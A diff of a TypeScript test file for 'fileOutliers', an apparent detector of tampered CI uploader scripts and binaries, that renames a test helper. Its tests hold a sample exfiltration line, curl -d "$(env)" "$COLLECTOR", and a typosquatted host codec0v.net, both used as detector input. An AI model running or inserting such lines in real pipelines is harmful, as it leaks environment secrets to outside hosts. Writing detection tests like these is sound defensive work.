@@ -25,13 +25,13 @@ const variant = (text: string | null, repositories: string[], more: Partial<File
   repositories,
   ...more,
 });
-const judge = (...variants: FileVariant[]) =>
+const evaluate = (...variants: FileVariant[]) =>
   fileOutliers(path, variants).map(({ findingIn, sha256 }) => ({ sha256, finding: findingIn(1) }));
 
 describe('fileOutliers', () => {
   it('reports the script with the added line, the line and its new host', () => {
     const altered = variant(`${uploader}${leak}\n`, ['ci/b']);
-    const found = judge(variant(uploader, ['ci/a']), altered);
+    const found = evaluate(variant(uploader, ['ci/a']), altered);
     expect(found).toHaveLength(1);
     expect(found[0]).toMatchObject({
       sha256: altered.sha256,
@@ -69,19 +69,19 @@ describe('fileOutliers', () => {
     ],
     ['an upload to a host in a variable', 'curl -d "$(env)" "$COLLECTOR"', [], ['environment-upload']],
   ])('reports %s', (_, line, newHosts, signs) => {
-    const found = judge(variant(uploader, ['ci/a']), variant(withLine(line), ['ci/b']));
+    const found = evaluate(variant(uploader, ['ci/a']), variant(withLine(line), ['ci/b']));
     expect(found).toMatchObject([{ finding: { severity: 'high', evidence: { newHosts, signs } } }]);
   });
 
   it('reports a replaced host where three repositories agree on another one', () => {
     const replaced = variant(uploader.replace('codecov.io', 'codec0v.net'), ['ci/d']);
-    const found = judge(variant(uploader, ['ci/a', 'ci/b', 'ci/c']), replaced);
+    const found = evaluate(variant(uploader, ['ci/a', 'ci/b', 'ci/c']), replaced);
     expect(found).toMatchObject([{ sha256: replaced.sha256, finding: { evidence: { newHosts: ['codec0v.net'] } } }]);
-    expect(judge(variant(uploader, ['ci/a']), replaced)).toEqual([]);
+    expect(evaluate(variant(uploader, ['ci/a']), replaced)).toEqual([]);
   });
 
   it('reports an added upload in a later release of the same repository', () => {
-    const found = judge(variant(uploader, ['ci/a']), variant(withLine(leak), ['ci/a']));
+    const found = evaluate(variant(uploader, ['ci/a']), variant(withLine(leak), ['ci/a']));
     expect(found).toMatchObject([{ finding: { evidence: { signs: ['environment-upload'] } } }]);
   });
 
@@ -112,12 +112,12 @@ describe('fileOutliers', () => {
     ],
     ['a script without its text', [variant(null, ['ci/a']), variant(withLine(leak), ['ci/b'])]],
   ])('ignores %s', (_, variants) => {
-    expect(judge(...variants)).toEqual([]);
+    expect(evaluate(...variants)).toEqual([]);
   });
 
   it('reports a binary that differs where three other repositories agree, as possible', () => {
     const odd = variant(null, ['shop/d'], { sizeBytes: 1_020 });
-    const found = judge(variant(null, ['shop/a', 'shop/b', 'shop/c']), odd);
+    const found = evaluate(variant(null, ['shop/a', 'shop/b', 'shop/c']), odd);
     expect(found).toMatchObject([{ sha256: odd.sha256, finding: { severity: 'medium', confidence: 'possible' } }]);
   });
 
@@ -129,13 +129,13 @@ describe('fileOutliers', () => {
     ['where several repositories have their own', [agreed, variant(null, ['shop/d']), variant(null, ['shop/e'])]],
     ['where one image lies in three repositories', [{ ...agreed, images: 1 }, variant(null, ['shop/d'])]],
   ])('ignores a binary %s', (_, variants) => {
-    expect(judge(...variants)).toEqual([]);
+    expect(evaluate(...variants)).toEqual([]);
   });
 
   it('shows five suspicious lines at most, each of bounded length and printable', () => {
     const lines = Array.from({ length: 40 }, (_, at) => `echo ${'x'.repeat(400)}${at}\u202e`);
     const text = `${uploader}${lines.join('\n')}\n${leak}\n`;
-    const [found] = judge(variant(uploader, ['ci/a']), variant(text, ['ci/b']));
+    const [found] = evaluate(variant(uploader, ['ci/a']), variant(text, ['ci/b']));
     const shown = found!.finding.evidence['addedLines'] as string[];
     expect(shown).toHaveLength(5);
     expect(shown[0]).toBe(leak);
@@ -159,7 +159,9 @@ describe('fileOutliers', () => {
       fc.tuple(fc.constant(each), fc.shuffledSubarray(each, { minLength: each.length, maxLength: each.length })),
     );
     const found = (given: { added: string[]; repositories: string[] }[]) =>
-      judge(...given.map(({ added, repositories }) => variant(uploader + added.join('\n'), repositories.toSorted())));
+      evaluate(
+        ...given.map(({ added, repositories }) => variant(uploader + added.join('\n'), repositories.toSorted())),
+      );
     fc.assert(fc.property(shuffled, ([one, other]) => expect(found(other)).toEqual(found(one))));
   });
 });
